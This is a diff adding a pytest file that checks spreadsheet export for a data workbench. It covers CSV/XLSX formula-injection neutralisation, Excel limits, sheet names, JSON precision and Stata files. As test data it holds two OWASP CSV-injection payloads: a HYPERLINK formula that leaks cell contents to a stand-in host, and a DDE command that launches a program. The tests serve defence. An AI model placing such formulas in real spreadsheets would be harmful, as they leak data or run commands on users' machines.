@@ -1,0 +1,197 @@
+"""Spreadsheet-safe tables: OWASP formula-injection guard, Excel limits, exact JSON, Stata files."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+
+from workbench.core.tables import (
+    EXCEL_MAX_CELL_CHARS,
+    EXCEL_MAX_ROWS,
+    fit_cell,
+    neutralise,
+    sheet_name,
+    spreadsheet_frame,
+    stata_names,
+    write_csv,
+    write_json_table,
+    write_stata,
+    write_xlsx,
+)
+
+# The two payloads shown on the OWASP "CSV Injection" page [recalled from memory]:
+# a link that leaks neighbouring cells, and a DDE command launching a program.
+OWASP_HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")'
+OWASP_DDE = "=cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [OWASP_HYPERLINK, OWASP_DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "\tleading tab", "\rleading CR", "\nleading LF"],
+)
+def test_owasp_trigger_characters_get_a_leading_quote(text: str) -> None:
+    """OWASP "CSV Injection": cells starting with = + - @ tab CR (and LF) are prefixed with a single quote."""
+    assert neutralise(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["plain answer", "a=b", "email me@home", "", " =space first", "'already quoted"])
+def test_other_text_is_unchanged(text: str) -> None:
+    """OWASP "CSV Injection": only the first character matters."""
+    assert neutralise(text) == text
+
+
+def _read_csv_text(path: Path) -> str:
+    raw = path.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so spreadsheets detect the encoding"
+    return raw[3:].decode("utf-8")
+
+
+def test_csv_neutralises_text_and_keeps_numbers_numeric(tmp_path: Path) -> None:
+    """OWASP "CSV Injection" (quote prefix; double quotes escaped as "" per RFC 4180 §2.7); numbers untouched."""
+    frame = pd.DataFrame(
+        {
+            "term": [OWASP_HYPERLINK, OWASP_DDE, "-5 stars", "café"],
+            "score": [-0.5, 1.25, -3.0, 0.0],
+            "mixed": [-7, "-7", None, "ok"],
+        }
+    )
+    path = write_csv(tmp_path / "t.csv", frame)
+    text = _read_csv_text(path)
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == ["term", "score", "mixed"]
+    assert rows[1][0] == "'" + OWASP_HYPERLINK
+    assert rows[2][0] == "'" + OWASP_DDE
+    assert rows[3][0] == "'-5 stars"
+    # Embedded double quotes are doubled inside a quoted field (RFC 4180 §2.7).
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1&A2' in text
+    # Numbers are bare, unquoted, and keep their sign: -0.5 is a number, not a formula.
+    assert text.splitlines()[1].endswith(",-0.5,-7")
+    back = pd.read_csv(path, encoding="utf-8-sig")
+    assert back["score"].tolist() == [-0.5, 1.25, -3.0, 0.0]
+    assert rows[2][2] == "'-7"  # the text "-7" in a mixed column is text, so it is neutralised
+    assert rows[4][0] == "café"
+
+
+def test_spreadsheet_frame_leaves_numeric_columns_alone() -> None:
+    frame = pd.DataFrame({"x": np.array([-1.5, 2.0]), "n": [-1, 2], "flag": [True, False], "tags": [["a"], ["=b"]]})
+    safe = spreadsheet_frame(frame)
+    assert safe["x"].dtype == np.float64 and safe["n"].dtype == np.int64 and safe["flag"].dtype == bool
+    assert safe["tags"].tolist() == ['["a"]', '["=b"]']  # JSON text starting with "[" is safe
+    assert spreadsheet_frame(pd.DataFrame({"=evil": [1]})).columns.tolist() == ["'=evil"]
+
+
+def test_xlsx_cells_are_text_not_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
+    """OWASP "CSV Injection" applies to XLSX too; openpyxl reads the cells back (data_type 's' vs 'n', no 'f')."""
+    frame = pd.DataFrame({"term": [OWASP_DDE, "+plus", "Straße"], "score": [-0.5, 2.0, np.nan], "n": [1, -2, 3]})
+    path, notes = write_xlsx(tmp_path / "t.xlsx", {"keywords": frame})
+    assert notes == []
+    sheet = openpyxl.load_workbook(path)["keywords"]
+    assert [c.value for c in sheet[1]] == ["term", "score", "n"]
+    assert sheet["A2"].value == "'" + OWASP_DDE and sheet["A2"].data_type == "s"
+    assert sheet["A3"].value == "'+plus"
+    assert sheet["A4"].value == "Straße"
+    assert sheet["B2"].value == -0.5 and sheet["B2"].data_type == "n"
+    assert sheet["B4"].value is None  # NaN is an empty cell
+    assert sheet["C3"].value == -2
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert sheet.freeze_panes == "A2"
+    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["C"].width
+
+
+def test_excel_row_limit_constant() -> None:
+    """Microsoft, "Excel specifications and limits": 1,048,576 rows, 32,767 characters per cell [recalled from memory]."""
+    assert EXCEL_MAX_ROWS == 1_048_576 == 2**20
+    assert EXCEL_MAX_CELL_CHARS == 32_767 == 2**15 - 1
+
+
+def test_long_table_continues_on_further_sheets(tmp_path: Path) -> None:
+    """Splitting is exercised with a 3-row sheet limit (header + 2 rows); the real limit is checked above."""
+    frame = pd.DataFrame({"term": [f"t{i}" for i in range(5)], "score": np.arange(5, dtype=float)})
+    path, notes = write_xlsx(tmp_path / "t.xlsx", {"kw": frame}, max_rows=3)
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["kw", "kw (2)", "kw (3)"]
+    values = [r[0] for name in book.sheetnames for r in book[name].iter_rows(min_row=2, values_only=True)]
+    assert values == [f"t{i}" for i in range(5)]
+    assert all(book[name]["A1"].value == "term" for name in book.sheetnames)
+    assert len(notes) == 1 and "3 sheets" in notes[0]
+
+
+def test_overlong_cell_is_cut_with_a_visible_marker(tmp_path: Path) -> None:
+    """Excel's 32,767-character cell limit [recalled from memory], counted in UTF-16 units (emoji count twice)."""
+    long_text = "ab" * 20_000
+    emoji_text = "😀" * 20_000  # 40,000 UTF-16 units
+    frame = pd.DataFrame({"text": [long_text, emoji_text, "short"]})
+    path, notes = write_xlsx(tmp_path / "t.xlsx", {"answers": frame})
+    sheet = openpyxl.load_workbook(path)["answers"]
+    for cell in (sheet["A2"], sheet["A3"]):
+        assert len(cell.value.encode("utf-16-le")) // 2 <= EXCEL_MAX_CELL_CHARS
+        assert "cut: " in cell.value and "JSON or Parquet" in cell.value
+    assert sheet["A2"].value.startswith("abab")
+    assert sheet["A4"].value == "short"
+    assert any("2 cell(s) longer than" in n for n in notes)
+    text, cut = fit_cell("x" * EXCEL_MAX_CELL_CHARS)
+    assert not cut and len(text) == EXCEL_MAX_CELL_CHARS
+
+
+def test_sheet_names_are_valid_and_unique() -> None:
+    """Excel sheet names: at most 31 characters, none of [ ] : * ? / \\, unique ignoring case [recalled from memory]."""
+    used: set[str] = set()
+    names = [sheet_name(n, used) for n in ["a/b:c", "A/B:C", "x" * 40, "x" * 40, "'quoted'", "History"]]
+    assert names[0] == "a_b_c" and names[1] == "A_B_C (2)"
+    assert all(len(n) <= 31 for n in names) and names[2] != names[3]
+    assert names[4] == "quoted" and names[5].lower() != "history"
+    assert len({n.lower() for n in names}) == len(names)
+
+
+def test_json_keeps_exact_text_and_full_precision(tmp_path: Path) -> None:
+    """JSON output is not neutralised; floats round-trip exactly (Python json uses the shortest repr)."""
+    third = 1.0 / 3.0
+    frame = pd.DataFrame({"term": [OWASP_HYPERLINK, "ελληνικά"], "w": [third, np.nan], "tags": [["a", "b"], []]})
+    path = write_json_table(tmp_path / "t.json", frame)
+    records = json.loads(path.read_text(encoding="utf-8"))
+    assert records[0] == {"term": OWASP_HYPERLINK, "w": third, "tags": ["a", "b"]}
+    assert records[1]["w"] is None and records[1]["term"] == "ελληνικά"
+
+
+def test_stata_names_follow_stata_rules() -> None:
+    """Stata variable names: letters, digits, _, not starting with a digit, ≤ 32 characters, reserved words
+    excluded (Stata manual [U] 11.3 "Naming conventions") [recalled from memory]."""
+    names = stata_names(["respondent_id", "group:country", "Straße", "1st", "in", "x" * 40, "X" * 40, "flag_too short"])
+    assert names[0] == "respondent_id"
+    assert names[1] == "group_country"
+    assert names[2] == "Strae"  # NFKD has no decomposition for ß, so it is dropped
+    assert names[3] == "v_1st"
+    assert names[4] == "in_"
+    assert all(len(n) <= 32 for n in names) and len({n.lower() for n in names}) == len(names)
+    assert names[7] == "flag_too_short"
+
+
+def test_stata_round_trip_with_unicode_and_long_strings(tmp_path: Path) -> None:
+    """pandas.read_stata reads back format 118 (Unicode) with strL for text over 2,045 bytes (Stata str# limit)."""
+    table = pd.DataFrame(
+        {
+            "respondent_id": ["r1", "r2"],
+            "note": ["Ελληνικά и русский", "x" * 3000],
+            "flag_non answer": np.array([1, 0], dtype=np.int8),
+            "c_price": np.array([0, 1], dtype=np.int8),
+            "n_answers": np.array([2, 1], dtype=np.int32),
+            "missing": [None, "y"],
+        }
+    )
+    path = write_stata(tmp_path / "r.dta", table, label="demo study")
+    with pd.io.stata.StataReader(path) as reader:
+        back = reader.read()
+        labels = reader.variable_labels()
+        assert reader.data_label == "demo study"
+    assert back.columns.tolist() == ["respondent_id", "note", "flag_non_answer", "c_price", "n_answers", "missing"]
+    assert back["note"].tolist() == ["Ελληνικά и русский", "x" * 3000]
+    assert back["flag_non_answer"].tolist() == [1, 0] and back["c_price"].tolist() == [0, 1]
+    assert back["missing"].tolist() == ["", "y"]
+    assert labels["flag_non_answer"] == "flag_non answer"
